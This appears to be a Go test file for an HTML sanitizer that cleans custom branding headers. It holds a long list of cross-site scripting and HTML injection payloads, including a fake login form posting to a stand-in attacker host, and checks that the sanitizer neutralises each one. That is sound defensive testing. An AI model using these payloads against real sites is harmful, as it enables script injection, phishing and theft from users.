package branding_test

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"latchkey/internal/branding"
)

const (
	logo    = "img_01h2xcejqtf2nbrexx3vqjhp41"
	logoSrc = "/assets/brand/" + logo
)

func mine(src string) (string, bool) {
	return logoSrc, src == logo || src == logoSrc || src == "https://latchkey.example"+logoSrc
}

func TestCleanKeepsWhatIsAllowed(t *testing.T) {
	for src, want := range map[string]string{
		"Hello":                       "Hello",
		"<p>Dear <b>customer</b></p>": "<p>Dear <b>customer</b></p>",
		"a<br>b<hr>":                  "a<br/>b<hr/>",
		`<img src="` + logo + `">`:    `<img src="` + logoSrc + `" alt=""/>`,
		`<img src="` + logoSrc + `" alt="N&quot;" width="120" height=40>`: `<img src="` + logoSrc + `" alt="N&#34;" width="120" height="40"/>`,
		`<img src="https://latchkey.example` + logoSrc + `" alt="x">`:     `<img src="` + logoSrc + `" alt="x"/>`,
		`<a href="https://acme.io/help?a=1&b=2">Help</a>`:                 `<a href="https://acme.io/help?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">Help</a>`,
		"<ul><li>one<li>two</ul>":                                         "<ul><li>one</li><li>two</li></ul>",
		"5 < 6 & 7 > 2":                                                   "5 &lt; 6 &amp; 7 &gt; 2",
		"<p>مرحبا <i>Northwind</i></p>":                                   "<p>مرحبا <i>Northwind</i></p>",
		"<H1>Big</H1>":                                                    "Big",
		"<table><tr><td>cell</td></tr></table>":                           "cell",
	} {
		if got, _ := branding.Clean(src, mine); got != want {
			t.Errorf("%s\n got %s\nwant %s", src, got, want)
		}
	}
}

// vectors are ways of running a script, of styling, of asking for something, and of getting out of the box.
func vectors() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>alert(1)</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img src="` + logo + `" onload=alert(1)>`, `<img/src="` + logo + `"/onerror=alert(1)>`, `<img src="https://evil.example/pixel.gif">`,
		`<img src="//evil.example/x">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="` + logo + `" srcset="//evil.example/x 2x">`, "<img src=\"`\" onerror=\"alert(1)\">",
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,x"/></svg>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>",
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="http://acme.io">x</a>`, `<a href="//evil.example">x</a>`, `<a href="https://user:pw@acme.io">x</a>`,
		`<a href="https://acme.io\@evil.example">x</a>`, `<a href="/c/token">x</a>`, `<a href="https:alert(1)">x</a>`, `<a href="https://acme.io" onclick=alert(1) style="position:fixed">x</a>`, `<a href="https://acme.io" target=_top rel=opener ping=//evil.example download>x</a>`,
		`<p style="position:fixed;inset:0">x</p>`, `<p class="btn" id="main">x</p>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example>`, `<div data-go="https://evil.example">x</div>`,
		`<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>`, `<input autofocus onfocus=alert(1)>`, `<textarea><script>alert(1)</script></textarea>`, `<select><option>x</select>`, `<button formaction="javascript:alert(1)">x</button>`,
		`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x"></object>`, `<embed src=x>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
		`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<frameset onload=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<template><script>alert(1)</script></template>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)`, `<title><img src=x onerror=alert(1)></title>`, `<noembed><img src=x onerror=alert(1)></noembed>`,
		`<!--><img src=x onerror=alert(1)>-->`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!doctype html><script>alert(1)</script>`,
		`</div></div></main><script>alert(1)</script>`, `</div><form action=//evil.example><input>`, `<p><b><p>x</p>`, `<b><p>x</b>y</p>`, `<a href="https://a.io"><a href="https://b.io">x</a></a>`, `<a href="https://a.io"><p><b>x</a>y`,
		`<table><b><tr><td>x</b></table>y`, `<li><p><li><b><ul><p></b>`, `<p><ul><b><li></p></b>x`, strings.Repeat("<b>", 400) + "x", strings.Repeat("<div>", 2000) + "x", strings.Repeat("<a href=https://a.io>", 50),
		"<p\x00onclick=alert(1)>x</p>", "<img\tsrc\n=\r" + logo + " \fonerror=alert(1)>", `<custom-element onclick=alert(1)>x</custom-element>`, `<p is="x-evil">x</p>`, `<p slot=x part=y>x</p>`, `<p contenteditable autofocus tabindex=1 accesskey=x draggable=true>x</p>`,
		"\u202eevil\u2066text", `<p dir=rtl lang=ar>x</p>`, `<label for=password>x</label>`, `<dialog open>x</dialog>`, `<p popover>x</p>`, `<img src="` + logo + `" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>`,
	}
}

func TestCleanLeavesNothingDangerous(t *testing.T) {
	for _, src := range vectors() {
		got, _ := branding.Clean(src, mine)
		harmless(t, src, got)
	}
}

// harmless parses what is left, as a browser does, inside a page of ours.
func harmless(t *testing.T, src, got string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(`<!doctype html><html><body><div class="card"><div class="brandbox">` + got + `</div><main>ours</main></div></body></html>`))
	if err != nil {
		t.Fatalf("%q → %q: %v", src, got, err)
	}
	elements := map[atom.Atom][]string{
		atom.P: nil, atom.Div: nil, atom.Span: nil, atom.Br: nil, atom.Hr: nil, atom.B: nil, atom.Strong: nil, atom.I: nil, atom.Em: nil, atom.U: nil, atom.S: nil,
		atom.Small: nil, atom.Sub: nil, atom.Sup: nil, atom.Code: nil, atom.Blockquote: nil, atom.Ul: nil, atom.Ol: nil, atom.Li: nil,
		atom.A: {"href", "target", "rel"}, atom.Img: {"src", "alt", "width", "height"},
	}
	var boxes, mains int
	var walk func(n *html.Node, inside bool)
	walk = func(n *html.Node, inside bool) {
		if inside && n.Type != html.TextNode {
			names, ok := elements[n.DataAtom]
			if n.Type != html.ElementNode || !ok || n.Namespace != "" {
				t.Errorf("%q → %q: leaves <%s>", src, got, n.Data)
			}
			for _, a := range n.Attr {
				if !slices.Contains(names, a.Key) {
					t.Errorf("%q → %q: leaves %s on <%s>", src, got, a.Key, n.Data)
				}
				if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") || a.Key == "src" && a.Val != logoSrc {
					t.Errorf("%q → %q: leaves %s=%q", src, got, a.Key, a.Val)
				}
			}
		}
		if n.Type == html.ElementNode && !inside {
			for _, a := range n.Attr {
				if a.Key == "class" && a.Val == "brandbox" {
					boxes++
					inside = true
				}
			}
			if n.DataAtom == atom.Main {
				mains++
				if n.FirstChild == nil || n.FirstChild.Type != html.TextNode || n.FirstChild.Data != "ours" {
					t.Errorf("%q → %q: reaches into our part of the page", src, got)
				}
			}
			if !slices.Contains([]atom.Atom{atom.Html, atom.Head, atom.Body, atom.Div, atom.Main}, n.DataAtom) {
				t.Errorf("%q → %q: <%s> got out of the box", src, got, n.Data)
			}
		}
		for k := n.FirstChild; k != nil; k = k.NextSibling {
			walk(k, inside)
		}
	}
	walk(doc, false)
	if boxes != 1 || mains != 1 {
		t.Errorf("%q → %q: %d boxes, %d mains", src, got, boxes, mains)
	}
	if again, removed := branding.Clean(got, mine); again != got || len(removed) > 0 {
		t.Errorf("%q → %q: cleaning it again gives %q, and removes %v", src, got, again, removed)
	}
}

func FuzzClean(f *testing.F) {
	for _, v := range vectors() {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > branding.MaxHeader {
			t.Skip()
		}
		got, _ := branding.Clean(src, mine)
		harmless(t, src, got)
	})
}

func TestCleanSaysWhatItLeftOut(t *testing.T) {
	_, removed := branding.Clean(`<p style="color:red" onclick="steal()">x</p><script>steal()</script><script>again()</script>`+
		`<a href="javascript:steal()">y</a><img src="https://evil.example/secret.png"><h1>Big</h1>`, mine)
	want := []branding.Removal{
		{Code: "removed_attribute", Element: "p", Attribute: "style"},
		{Code: "removed_attribute", Element: "p", Attribute: "onclick"},
		{Code: "removed_element", Element: "script"},
		{Code: "removed_link", Element: "a", Attribute: "href"},
		{Code: "removed_image", Element: "img", Attribute: "src"},
		{Code: "removed_element", Element: "h1"},
	}
	if !slices.Equal(removed, want) {
		t.Errorf("removed %v\nwant    %v", removed, want)
	}
	if _, removed := branding.Clean(`<p>fine <a href="https://acme.io" rel="noopener noreferrer nofollow" target="_blank">x</a></p>`, mine); removed != nil {
		t.Errorf("removed %v from what is fine", removed)
	}
}
